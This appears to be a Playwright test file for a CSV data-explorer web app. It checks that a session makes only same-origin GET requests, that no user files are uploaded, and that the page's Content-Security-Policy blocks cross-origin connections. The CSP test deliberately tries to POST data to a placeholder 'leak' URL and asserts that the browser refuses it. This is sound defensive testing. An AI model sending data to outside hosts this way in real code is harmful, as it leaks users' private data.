import {
  addPanel,
  APP_ORIGIN,
  chooseFile,
  expect,
  expectSummary,
  foreignRequests,
  openApp,
  SALES,
  test,
  textFile,
  waitIdle,
  ZOO,
  showSettings,
} from './fixtures.ts';

test('a whole session only talks to its own origin, and user files are never sent', async ({
  page,
  pageLog,
  baseURL,
}) => {
  const origin = new URL(baseURL ?? APP_ORIGIN).origin;
  await openApp(page);
  await expectSummary(page, ZOO);

  for (const sample of ['sales.csv', 'vote.csv', 'weather.nominal.csv', 'zoo.csv']) {
    await page.getByTestId(`sample-${sample}`).click();
    await expect(page.getByTestId('summary')).toContainText(`columns in ${sample}`);
    await waitIdle(page);
  }
  await showSettings(page.getByTestId('panel-summary'));
  await page.getByLabel('Missing policy').selectOption('own');
  await waitIdle(page);

  const secret = 'token,colour\nsecret-1,red\nsecret-2,blue\nsecret-1,blue\nsecret-2,red\n';
  await chooseFile(page, textFile('private.csv', secret));
  await expectSummary(page, { rows: 4, columns: 2, name: 'private.csv' });
  await waitIdle(page);

  const dropped = await page.evaluateHandle(() => {
    const transfer = new DataTransfer();
    transfer.items.add(
      new File(['a,b\nx,y\ny,x\nx,x\n'], 'dropped-private.csv', { type: 'text/csv' }),
    );
    return transfer;
  });
  await page.getByTestId('dropzone').dispatchEvent('drop', { dataTransfer: dropped });
  await expectSummary(page, { rows: 3, columns: 2, name: 'dropped-private.csv' });
  await waitIdle(page);

  // A failed read, the panels rearranged, some hovering.
  await chooseFile(page, textFile('header.csv', 'a,b\n'));
  await expect(page.getByTestId('notice')).toHaveAttribute('data-code', 'header-only');
  await page.getByRole('button', { name: 'Close Value co-occurrence' }).click();
  await addPanel(page, 'cooccurrence');
  await page.getByTestId('cooccurrence-heatmap').locator('rect.cell').first().hover();
  await page.getByTestId('sample-sales.csv').click();
  await expectSummary(page, SALES);
  await waitIdle(page);

  const urls = pageLog.requests.map((r) => r.url());
  expect(foreignRequests(pageLog.requests, origin), 'requests to other origins').toEqual([]);
  for (const url of urls) {
    if (url.startsWith('data:') || url.startsWith('blob:')) continue;
    expect(new URL(url).origin, url).toBe(origin);
  }
  // What was fetched: the page, its bundle, the worker, the manifest and the samples clicked.
  const paths = urls.filter((u) => u.startsWith(origin)).map((u) => new URL(u).pathname);
  expect(paths).toContain('/');
  expect(paths).toContain('/datasets/index.json');
  for (const sample of ['zoo.csv', 'sales.csv', 'vote.csv', 'weather.nominal.csv'])
    expect(paths).toContain(`/datasets/${sample}`);
  expect(
    paths.some((p) => /^\/assets\/explorer\.worker-[\w-]+\.js$/.test(p)),
    paths.join('\n'),
  ).toBe(true);
  // Nothing is uploaded: only GETs, no bodies, no user file name in any address.
  for (const request of pageLog.requests) {
    expect(request.method(), request.url()).toBe('GET');
    expect(request.postData(), request.url()).toBeNull();
    expect(request.url()).not.toMatch(/private|secret|header\.csv/);
  }
  // Samples come from the app's own server: only the ones asked for, each once per click.
  const sampleFetches = paths.filter((p) => p.startsWith('/datasets/') && p.endsWith('.csv'));
  expect(sampleFetches).toEqual([
    '/datasets/zoo.csv',
    '/datasets/sales.csv',
    '/datasets/vote.csv',
    '/datasets/weather.nominal.csv',
    '/datasets/zoo.csv',
    '/datasets/sales.csv',
  ]);
});

test("the page's Content-Security-Policy blocks requests to other origins", async ({
  page,
  pageLog,
}) => {
  await openApp(page);
  const csp = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("default-src 'self'");
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.violatedDirective),
    );
    try {
      await fetch('http://example.invalid/leak?data=1', { method: 'POST', body: 'a,b' });
      return { fetched: true, violations };
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 50));
      return { fetched: false, violations };
    }
  });
  // Refused by connect-src — once per policy: the response header and the <meta> tag carry it.
  expect(outcome.fetched).toBe(false);
  expect(outcome.violations.length).toBeGreaterThan(0);
  expect(new Set(outcome.violations)).toEqual(new Set(['connect-src']));
  expect(pageLog.requests.map((r) => r.url()).filter((u) => u.includes('example.invalid'))).toEqual(
    [],
  );
  // Chromium logs the refused fetch as a console error; it is the point of this test.
  const refused = pageLog.consoleErrors.filter((e) => /Content Security Policy/.test(e));
  expect(refused.length).toBeGreaterThan(0);
  pageLog.consoleErrors.splice(
    0,
    pageLog.consoleErrors.length,
    ...pageLog.consoleErrors.filter((e) => !refused.includes(e)),
  );
});
